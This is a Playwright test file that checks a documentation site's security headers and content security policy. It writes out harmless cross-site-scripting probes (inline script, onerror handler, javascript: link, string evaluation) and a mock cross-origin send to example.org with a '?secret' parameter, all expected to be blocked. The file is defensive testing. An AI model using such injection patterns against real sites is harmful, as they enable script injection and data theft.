import type {Page} from '@playwright/test';
import {expect, flushRequests, open, test, waitForIdlePage} from '../fixtures';

test('every kind of response has the security headers', async ({request}) => {
  for (const path of ['/', '/docs/context', '/nothing', '/img/mark.svg']) {
    const headers = (await request.get(path)).headers();
    expect(headers['content-security-policy']).toContain("default-src 'self'; script-src 'self' 'sha256-");
    expect(headers['strict-transport-security']).toMatch(/^max-age=\d{8}$/);
    expect(headers['x-content-type-options']).toBe('nosniff');
    expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
    expect(headers['permissions-policy']).toContain('camera=()');
    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
    expect(headers['set-cookie']).toBeUndefined();
  }
});

test('only pages with posts from Twitter allow Twitter in their content security policy', async ({
  request,
}) => {
  for (const path of ['/docs/love', '/docs/love.html']) {
    const policy = (await request.get(path)).headers()['content-security-policy'];
    expect(policy).toMatch(/script-src [^;]* https:\/\/platform\.twitter\.com;/);
  }
  for (const path of ['/', '/docs', '/docs/lovely', '/docs/v9', '/nothing', '/img/mark.svg']) {
    expect((await request.get(path)).headers()['content-security-policy']).not.toContain('twitter');
  }
});

test.describe('injected content', () => {
  test.use({
    allowedConsoleMessages: /blocked by the CSP|Content Security Policy|Failed to load resource/,
  });

  test('the content security policy blocks injected code', async ({page}) => {
    await open(page, '/docs/context');
    expect(await tryInjections(page)).toEqual([]);
  });

  test.describe('when the content security policy is bypassed', () => {
    test.use({bypassCSP: true});

    // This test proves that the test above would fail if injected code ran.
    test('injected code runs', async ({page}) => {
      await open(page, '/docs/context');
      expect((await tryInjections(page)).sort()).toEqual([
        'event handler',
        'inline script',
        'javascript link',
        'string as code',
      ]);
    });
  });

  test('injected content can’t load anything from other origins or send anything to them', async ({page}) => {
    const crossOriginUrls: string[] = [];
    await page.route(
      url => url.hostname !== 'localhost',
      route => {
        crossOriginUrls.push(route.request().url());
        return route.abort();
      },
    );
    await open(page, '/docs/context');
    await page.evaluate(async () => {
      const blocked = new Set<string>();
      document.addEventListener('securitypolicyviolation', ({effectiveDirective}) =>
        blocked.add(effectiveDirective),
      );
      for (const [name, attribute] of [
        ['script', 'src'],
        ['img', 'src'],
        ['iframe', 'src'],
      ] as const) {
        const element = document.createElement(name);
        element.setAttribute(attribute, 'https://example.org/');
        document.body.append(element);
      }
      await fetch('https://example.org/?secret').catch(() => undefined);
      // The policy has decided about all four requests when the browser has reported four violations.
      await new Promise<void>(resolve => {
        const check = () => (blocked.size === 4 ? resolve() : requestAnimationFrame(check));
        check();
      });
    });
    await flushRequests(page);
    expect(crossOriginUrls).toEqual([]);
  });
});

test('visiting the site sets no cookies and sends no requests to other origins', async ({
  page,
  context,
  baseURL,
}) => {
  const crossOriginUrls: string[] = [];
  page.on('request', request => {
    if (!request.url().startsWith(`${baseURL}/`) && !request.url().startsWith('data:')) {
      crossOriginUrls.push(request.url());
    }
  });
  for (const path of [
    '/',
    '/docs',
    '/docs/love',
    '/docs/v9/router',
    '/blog/announcing-trpc-10',
    '/media',
    '/search?q=router',
  ]) {
    await open(page, path);
    await waitForIdlePage(page);
  }
  await page.getByRole('button', {name: /Switch between dark and light mode/}).click();
  expect(crossOriginUrls).toEqual([]);
  expect(await context.cookies()).toEqual([]);
});

/** Tries to run code in the page in four ways, and returns the names of the ways that worked. */
async function tryInjections(page: Page): Promise<string[]> {
  return page.evaluate(async () => {
    const successfulWays: string[] = [];
    const violations: string[] = [];
    document.addEventListener('securitypolicyviolation', ({effectiveDirective}) =>
      violations.push(effectiveDirective),
    );
    Reflect.set(window, 'successfulWays', successfulWays);
    const script = document.createElement('script');
    script.textContent = "window.successfulWays.push('inline script')";
    document.body.append(script);
    const container = document.createElement('div');
    container.innerHTML = `<img src="/img/none.svg" onerror="window.successfulWays.push('event handler')"><a href="javascript:window.successfulWays.push('javascript link')">x</a>`;
    document.body.append(container);
    container.querySelector('a')?.click();
    // The content security policy doesn't apply to code that Playwright evaluates directly. It does apply to this timer.
    setTimeout(() => new Function("window.successfulWays.push('string as code')")());
    // Each way either works or violates the policy.
    await new Promise<void>(resolve => {
      const check = () =>
        successfulWays.length + violations.length === 4 ? resolve() : requestAnimationFrame(check);
      check();
    });
    return successfulWays;
  });
}
